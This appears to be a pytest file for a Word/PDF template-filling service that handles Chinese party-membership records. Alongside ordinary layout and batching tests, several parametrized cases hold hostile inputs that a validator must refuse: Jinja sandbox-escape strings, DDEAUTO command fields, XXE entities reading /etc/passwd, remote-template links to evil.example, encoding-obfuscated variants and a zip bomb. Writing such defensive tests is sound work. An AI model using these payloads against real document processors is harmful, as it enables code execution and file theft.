"""What the press makes of a template, and what a hostile one can do: spoil its own print."""

import io
import re
import time
import zipfile

import pytest
from docx import Document
from docx.shared import Mm

from core.documents.blocks import pages_of
from core.documents.checking import complaints, tree_of
from core.documents.defaults import DRAWN, _field, default_template
from core.documents.filling import Form
from core.documents.pressing import Order, PressFailed, press
from core.documents.pressing import complaints as complained
from core.documents.registry import DOCUMENTS, sample
from tests.documents.reading import words_of_docx, words_of_pdf

TREE = {"姓名": None, "身份号码": None, "组织关系": {"党组织": None, "原因": None}, "打印": {"编号": None, "人": None}}


def template(*lines, change=None):
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    made = io.BytesIO()
    document.save(made)
    return changed(made.getvalue(), change) if change else made.getvalue()


def changed(content, change):
    """The package with parts added or replaced: name → bytes, or a function of what is there."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            part = change.pop(name, None)
            new.writestr(name, part(old.read(name)) if callable(part) else old.read(name) if part is None else part)
        for name, part in change.items():
            new.writestr(name, part)
    return made.getvalue()


def order(lines, context, form="docx", **more):
    return Order("", template(*lines), [context], ["一.docx"], form, **more)


def body(addition):
    return {"word/document.xml": lambda old: old.replace(b"<w:sectPr", addition + b"<w:sectPr", 1)}


def test_a_template_is_filled_and_read_again_by_word_and_as_pdf():
    lines = ["{{ 姓名 }}同志", "{% if 身份号码 %}证件 {{ 身份号码 }}{% endif %}"]
    context = {"姓名": "欧阳<b>&芳\x07", "身份号码": "350525198005170018"}
    said = words_of_docx(press(order(lines, context)))
    assert "欧阳<b>&芳同志" in said
    assert "证件 350525198005170018" in said
    printed = words_of_pdf(press(order(lines, context, "pdf")))
    assert "欧阳<b>&芳同志" in printed
    assert "350525198005170018" in printed


def test_what_a_record_holds_is_never_taken_for_a_mark_or_a_command():
    context = {"姓名": '{{ 身份号码 }}{% raw %} #read("/etc/passwd") $x$ *a* \\ <w:p/>', "身份号码": "秘而不宣"}
    said = words_of_docx(press(order(["{{ 姓名 }}"], context)))
    assert '#read("/etc/passwd") $x$ *a* \\ <w:p/>' in said
    assert "秘而不宣" not in said
    printed = words_of_pdf(press(order(["{{ 姓名 }}"], context, "pdf")))
    assert '#read("/etc/passwd")' in printed
    assert "秘而不宣" not in printed
    assert "root:" not in printed


@pytest.mark.parametrize("code", sorted(DRAWN))
def test_our_own_templates_name_only_fields_that_there_are(app, code):
    meant = DOCUMENTS[code]
    assert complaints(default_template(code), tree_of(meant.fields)) == []
    said = words_of_pdf(press(Order(code, None, [sample(meant.fields)], ["样张"], "pdf", strict=True)))
    assert meant.title in said
    assert "2026-00001" in said


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("{{ 姓明 }}", "是不是“姓名”"),
        ("{% for 段 in 组织关系 %}{{ 段.党组 }}{% endfor %}", "是不是“党组织”"),
        ("{{ 姓名.__class__ }}", "没有下级字段"),
        ("{{ 姓名|attr('__class__') }}", "过滤器"),
        ("{{ ''.__class__.__mro__ }}", "名称"),
        ("{{ lipsum.__globals__ }}", "没有“lipsum”"),
        ("{{ 姓名.upper() }}", "Call"),
        ("{% for x in range(999999) %}{% endfor %}", "名称"),
        ("{% include '/etc/passwd' %}", "Include"),
        ("{% import 'os' as os %}", "Import"),
        ("{% set x = 姓名 %}", "Assign"),
        ("{% macro m() %}{% endmacro %}", "Macro"),
        ("{{ 'a' * 99999999 }}", "Mul"),
        ("{{ 姓名", "标记有误"),
        ("{% for 段 in 组织关系 %}", "标记有误"),
        (
            "{% for a in 组织关系 %}{% for b in 组织关系 %}{% for c in 组织关系 %}{% endfor %}{% endfor %}{% endfor %}",
            "两层",
        ),
    ],
)
def test_a_mark_that_is_no_field_condition_or_loop_is_refused_with_a_reason(line, said):
    assert said in "".join(complaints(template(line), TREE))


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"word/vbaProject.bin": b"x"}, "宏"),
        ({"[Content_Types].xml": lambda old: old.replace(b"wordprocessingml.document.main", b"macroEnabled.main")}, "宏"),
        ({"word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'}, "外部"),
        ({"word/_rels/document.xml.rels": lambda old: old.replace(b"</Relationships>", b'<Relationship Id="z9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://evil.example/i.png" TargetMode="External"/></Relationships>')}, "外部"),
        ({"word/_rels/document.xml.rels": lambda old: old.replace(b"</Relationships>", b'<Relationship TargetMode="External" Id="z9" Target="file:///etc/passwd" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>')}, "外部"),
        ({"word/embeddings/oleObject1.bin": b"x"}, "嵌有"),
        (body(b"<w:p><w:r><w:object/></w:r></w:p>"), "嵌入的对象"),
        (body(b'<w:altChunk r:id="z"/>'), "外部内容"),
        (body(b'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\evil\\x.docx&quot; "/></w:p>'), "INCLUDETEXT"),
        (body(b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), "DDEAUTO"),
        ({"word/document.xml": lambda old: b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + old.split(b"?>", 1)[1]}, "外部实体"),
        ({"word/settings.xml": lambda old: old.replace(b"</w:settings>", b"<w:mailMerge/></w:settings>")}, "邮件合并"),
    ],
)  # fmt: skip
def test_a_template_that_runs_or_fetches_something_is_refused(change, said):
    assert said in "".join(complaints(template("{{ 姓名 }}", change=dict(change)), TREE))


RELATIONS = "word/_rels/document.xml.rels"
OUTSIDE = b'<Relationship Id="z9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://evil.example/i.png" %s/></Relationships>'
WORD = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def outside(mode):
    return lambda old: old.replace(b"</Relationships>", OUTSIDE % mode)


def utf16(change):
    return lambda old: change(old).split(b"?>", 1)[1].decode().encode("utf-16")


def prefixed(old, addition):
    """The document with another prefix for the same words."""
    text = (
        old.replace(b"<w:", b"<q:").replace(b"</w:", b"</q:").replace(b" w:", b" q:").replace(b"xmlns:w=", b"xmlns:q=")
    )
    return text.replace(b"<q:sectPr", addition + b"<q:sectPr", 1)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({RELATIONS: outside(b'TargetMode="Ext&#101;rnal"')}, "外部"),
        ({RELATIONS: outside(b"TargetMode = 'EXTERNAL'")}, "外部"),
        ({RELATIONS: outside(b"")}, "外部"),
        ({RELATIONS: utf16(outside(b'TargetMode="External"'))}, "外部"),
        ({"WORD/_RELS/evil.xml.RELS": b'<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id="a" Type="http://x/attachedTemplate" Target="\\\\evil\\t.dotm"/></r:Relationships>'}, "外部"),
        ({"word/document.xml": lambda old: prefixed(old, b"<q:altChunk/>")}, "外部内容"),
        ({"word/document.xml": lambda old: prefixed(old, b'<q:p><q:fldSimple q:instr="&#73;NCLUDETEXT x"/></q:p>')}, "INCLUDETEXT"),
        ({"word/document.xml": lambda old: prefixed(old, b"<q:p><q:r><q:fldChar q:fldCharType='begin'/></q:r><q:r><q:instrText>DDE</q:instrText></q:r><q:r><q:instrText>AUTO c</q:instrText></q:r></q:p>")}, "DDEAUTO"),
        ({"elsewhere/part.bin": b'<w:mailMerge xmlns:w="' + WORD + b'"/>'}, "邮件合并"),
        ({"word/document.xml": lambda old: (b'<?xml version="1.0" encoding="UTF-16"?>' + b'<!DOCTYPE x [<!ENTITY e "x">]>' + old.split(b"?>", 1)[1]).decode().encode("utf-16")}, "外部实体"),
        ({"word/styles.xml": b'<!DOCTYPE l [<!ENTITY a "' + b"a" * 10 + b'"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'}, "外部实体"),
        ({"word/media/bomb.bin": b"\x00" * 60_000_000}, "远远超出"),
        ({"../../evil.xml": b"<x/>"}, "损坏"),
        ({"word/styles.xml": b"<a" * 20_000}, "损坏"),
    ],
)  # fmt: skip
def test_nor_when_it_is_written_in_another_way_that_its_readers_take_for_the_same(change, said):
    assert said in "".join(complaints(template("{{ 姓名 }}", change=dict(change)), TREE))


def test_a_template_is_looked_at_in_the_press_and_one_that_is_no_document_is_told():
    assert complained(b"%PDF-1.7", TREE) != []
    assert complained(template("{{ 姓名 }}"), TREE) == []
    assert "是不是“姓名”" in complained(template("{{ 姓明 }}"), TREE)[0]


def test_a_template_that_slipped_past_the_check_reaches_nothing_at_its_fill():
    context = {"姓名": "陈建国", "组织关系": []}
    for line in (
        "{{ 姓名.__class__.__mro__ }}",
        "{{ ''.__class__ }}",
        "{{ 姓名['__class__'] }}",
        "{{ self.__init__.__globals__ }}",
    ):
        assert words_of_docx(press(order([line], context))).strip() == ""
    for line in (
        "{{ 姓名.upper() }}",
        "{% for x in range(9) %}{{ x }}{% endfor %}",
        "{% include '/etc/passwd' %}",
        "{{ 姓名|attr('x') }}",
    ):
        with pytest.raises(PressFailed):
            press(order([line], context))


def test_a_template_that_would_never_end_is_ended(monkeypatch):
    from core.documents import pressing

    monkeypatch.setattr(pressing, "SHORT", (2, 1_500_000_000))
    loops = "".join(f"{{% for {name} in 名单 %}}" for name in "abcd") + "x" + "{% endfor %}" * 4
    began = time.monotonic()
    with pytest.raises(PressFailed, match="限定的时间"):
        press(order([loops], {"名单": [{"n": n} for n in range(1000)]}))
    assert time.monotonic() - began < 20


def test_a_watermark_lies_on_every_page_whatever_the_template_has():
    made = press(order(["{{ 姓名 }}"], {"姓名": "陈建国"}, watermark="王管理 2026-11-22 <&>"))
    with zipfile.ZipFile(io.BytesIO(made)) as package:
        headers = b"".join(
            package.read(name) for name in package.namelist() if "header" in name and name.endswith(".xml")
        )
    assert "王管理 2026-11-22 &lt;&amp;&gt;".encode() in headers
    printed = words_of_pdf(press(order(["{{ 姓名 }}"], {"姓名": "陈建国"}, "pdf", watermark="王管理 2026-11-22")))
    assert "王管理 2026-11-22" in printed


def test_several_documents_are_one_pdf_or_an_archive_and_tell_how_far_they_are():
    told = []
    contexts = [{"姓名": f"党员{n}号"} for n in range(12)]
    many = Order("", template("{{ 姓名 }}"), contexts, [f"{n:03}.docx" for n in range(12)], "docx", archive=True)
    with zipfile.ZipFile(io.BytesIO(press(many, long=True, progress=told.append))) as archive:
        assert len(archive.namelist()) == 12
        assert "党员7号" in words_of_docx(archive.read("007.docx"))
    one = press(Order("", template("{{ 姓名 }}"), contexts, [""] * 12, "pdf"), long=True)
    assert "党员11号" in words_of_pdf(one)


def test_an_empty_merged_cell_keeps_its_width():
    document = Document()
    table = document.add_table(2, 4, style="Table Grid")
    for column, word in enumerate("甲乙丙丁"):
        table.cell(1, column).text = word
    table.cell(0, 0).text = "单位"
    table.cell(0, 1).merge(table.cell(0, 3)).text = "{{ 空 }}"
    made = io.BytesIO()
    document.save(made)
    assert "单位甲乙丙丁" in words_of_pdf(press(Order("", made.getvalue(), [{"空": ""}], [""], "pdf")))


def test_merged_cells_and_page_numbers_come_out_in_the_pdf():
    document = Document()
    table = document.add_table(2, 3, style="Table Grid")
    table.cell(0, 0).merge(table.cell(0, 1)).text = "横跨"
    table.cell(0, 2).merge(table.cell(1, 2)).text = "竖跨"
    table.cell(1, 0).text, table.cell(1, 1).text = "左", "右"
    made = io.BytesIO()
    document.save(made)
    said = words_of_pdf(press(Order("", made.getvalue(), [{}], [""], "pdf")))
    assert [said.count(word) for word in ("横跨", "竖跨", "左", "右")] == [1, 1, 1, 1]


@pytest.mark.parametrize(
    ("lines", "apart"),
    [
        (["{% for a in 名单 %}{{ a.名 }}{% endfor %}"], True),
        (["{% for a in 名单 %}{{ loop.index }}{% endfor %}"], False),
        (["{% for a in 名单 %}{{ a.名 }}{% endfor %}", "共{{ 名单|length }}人"], False),
        (["{% if 名单 %}{% for a in 名单 %}{{ a.名 }}{% endfor %}{% endif %}"], False),
        (["{% for a in 名单 %}{% for b in a.段 %}{{ b.名 }}{% endfor %}{% endfor %}"], True),
        (["没有名单"], False),
    ],
)
def test_a_list_is_filled_in_parts_only_where_the_parts_say_what_the_whole_would(lines, apart):
    assert Form(template(*lines)).only_repeats("名单") is apart


def test_each_document_of_a_batch_says_how_many_pages_it_has_itself():
    document = Document()
    for _ in range(90):
        document.add_paragraph("{% for 行 in 行数 %}{{ 行.字 }}{% endfor %}")
    line = document.sections[0].footer.paragraphs[0]
    for kind in ("PAGE", "NUMPAGES"):
        line.add_run(" 页" if kind == "NUMPAGES" else "第 ")
        _field(line, kind)
    made = io.BytesIO()
    document.save(made)
    contexts = [{"行数": [{"字": "长" * width}]} for width in (1, 80)]
    said = words_of_pdf(press(Order("", made.getvalue(), contexts, ["", ""], "pdf"), long=True))
    assert said.count("第 1 页") == 2
    short, tall = (int(found) for found in re.findall(r"第 1 页(\d+)", said))
    assert short < tall
    assert said.count(f"第 {tall} 页{tall}") == 1, "the last page of the second counts its own"
    assert said.count(f"第 {short} 页{short}") == 1, "the last page of the first does not look at the second"


def test_a_line_that_is_moved_in_from_the_sides_is_so_in_the_pdf_but_never_off_the_page():
    sheet = Document()
    sheet.add_paragraph("贴着边").paragraph_format.first_line_indent = Mm(0)
    for millimetres in (7, 900):
        look = sheet.add_paragraph("离开边").paragraph_format
        look.left_indent = look.right_indent = Mm(millimetres)
    plain, *moved = [one for one in pages_of(sheet)["body"] if one["k"] == "p"]
    assert plain.keys().isdisjoint({"left", "right"})
    assert [round(one[side]) for one in moved for side in ("left", "right")] == [20, 20, 144, 144]
